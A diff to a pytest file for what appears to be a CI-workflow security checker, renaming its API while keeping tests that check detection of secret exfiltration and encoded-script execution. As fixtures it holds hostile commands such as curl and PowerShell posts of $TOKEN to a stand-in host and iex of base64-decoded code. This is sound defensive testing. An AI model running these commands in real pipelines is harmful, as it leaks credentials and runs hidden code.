@@ -2,7 +2,7 @@
 
 import pytest
 
-from bot.evaluation.change_report import notice
+from bot.evaluation.change_report import evaluate_change
 from bot.model.core_types import Outcome
 from bot.policy import Policy
 from tests.bot.checks.alerts.change_blocks import read_change
@@ -21,13 +21,13 @@ jobs:
 """
 
 
-def heard(script: str, shell: str = "bash") -> dict[str, list[str]]:
-    """The signals that a step with this script gives where there was none before, each with what it says."""
+def findings_in(script: str, shell: str = "bash") -> dict[str, list[str]]:
+    """The alerts that a step with this script gives where there was none before, each with what it says."""
     text = STEP.replace("SHELL", shell) + "".join(f"          {line}\n" for line in script.split("\n"))
     change = read_change("", {}, {".github/workflows/x.yml": text})
-    noticed = notice(change, Policy())
-    assert not [each.fault for each in noticed if each.fault]
-    return {str(each.signal.name): [finding.message for finding in each.findings] for each in noticed if each.outcome is Outcome.FAILED}  # fmt: skip
+    noticed = evaluate_change(change, Policy())
+    assert not [each.error for each in noticed if each.error]
+    return {str(each.alert.name): [finding.message for finding in each.findings] for each in noticed if each.outcome is Outcome.FAILED}  # fmt: skip
 
 
 @pytest.mark.parametrize(
@@ -49,13 +49,13 @@ def heard(script: str, shell: str = "bash") -> dict[str, list[str]]:
     ],
 )  # fmt: skip
 def test_a_secret_on_its_way_out_is_seen(script: str, secrets: str) -> None:
-    (said,) = heard(script)["secret-sent-away"]
+    (said,) = findings_in(script)["secret-sent-away"]
     assert said.partition(" sends ")[2] == f"{secrets} to {HOST}, which is no registry's"
 
 
 @pytest.mark.parametrize("place", ['"$(cat place)"', "$SOMEWHERE"])
 def test_a_place_that_the_script_works_out_is_unknown(place: str) -> None:
-    assert heard(f'curl -d "$TOKEN" {place}')["secret-sent-away"] == [
+    assert findings_in(f'curl -d "$TOKEN" {place}')["secret-sent-away"] == [
         "curl sends PYPI_TOKEN to an address that the script works out"
     ]
 
@@ -74,7 +74,7 @@ def test_a_place_that_the_script_works_out_is_unknown(place: str) -> None:
     ],
 )
 def test_what_stays_in_the_house_is_no_signal(script: str) -> None:
-    assert "secret-sent-away" not in heard(script)
+    assert "secret-sent-away" not in findings_in(script)
 
 
 @pytest.mark.parametrize(
@@ -114,7 +114,7 @@ def test_what_stays_in_the_house_is_no_signal(script: str) -> None:
     ],
 )
 def test_what_runs_unread_is_seen(script: str) -> None:
-    assert "encoded-script" in heard(script)
+    assert "encoded-script" in findings_in(script)
 
 
 @pytest.mark.parametrize(
@@ -136,19 +136,19 @@ def test_what_runs_unread_is_seen(script: str) -> None:
     ],
 )
 def test_what_is_decoded_and_not_run_is_no_signal(script: str) -> None:
-    assert "encoded-script" not in heard(script)
+    assert "encoded-script" not in findings_in(script)
 
 
 def test_powershell_is_read_too() -> None:
-    sent = heard("Invoke-RestMethod -Uri https://collect.example.org -Method Post -Body $env:TOKEN", "pwsh")
-    run = heard("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))", "pwsh")
+    sent = findings_in("Invoke-RestMethod -Uri https://collect.example.org -Method Post -Body $env:TOKEN", "pwsh")
+    run = findings_in("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))", "pwsh")
 
     assert "secret-sent-away" in sent
     assert "encoded-script" in run
 
 
 @pytest.mark.parametrize(
-    ("script", "signals"),
+    ("script", "alerts"),
     [
         ("\n".join(f"echo $TOKEN > f{n}; cat f{n} > f{n + 1}; curl -T f{n} https://collect.example.org" for n in range(120)), {"secret-sent-away"}),
         ("cat a > b; cat b > a; curl -d @a https://collect.example.org\n" * 200, set()),
@@ -159,8 +159,8 @@ def test_powershell_is_read_too() -> None:
     ],
     ids=["many files", "a circle", "deep", "long words", "many decoders", "long options"],
 )  # fmt: skip
-def test_a_hostile_script_comes_to_an_end(script: str, signals: set[str]) -> None:
-    assert heard(script).keys() == signals
+def test_a_hostile_script_comes_to_an_end(script: str, alerts: set[str]) -> None:
+    assert findings_in(script).keys() == alerts
 
 
 @pytest.mark.parametrize(
@@ -173,7 +173,7 @@ def test_a_hostile_script_comes_to_an_end(script: str, signals: set[str]) -> Non
 def test_a_script_that_is_not_understood_is_no_pass(shell: str, script: str, what: str) -> None:
     text = STEP.replace("SHELL", shell) + f"          {script}\n"
     change = read_change("", {}, {".github/workflows/x.yml": text})
-    sent = next(each for each in notice(change, Policy()) if each.signal.name == "secret-sent-away")
+    sent = next(each for each in evaluate_change(change, Policy()) if each.alert.name == "secret-sent-away")
 
-    assert sent.outcome is Outcome.UNSEEN
-    assert sent.unseen[0].what == what
+    assert sent.outcome is Outcome.UNKNOWN
+    assert sent.unknown[0].fact == what
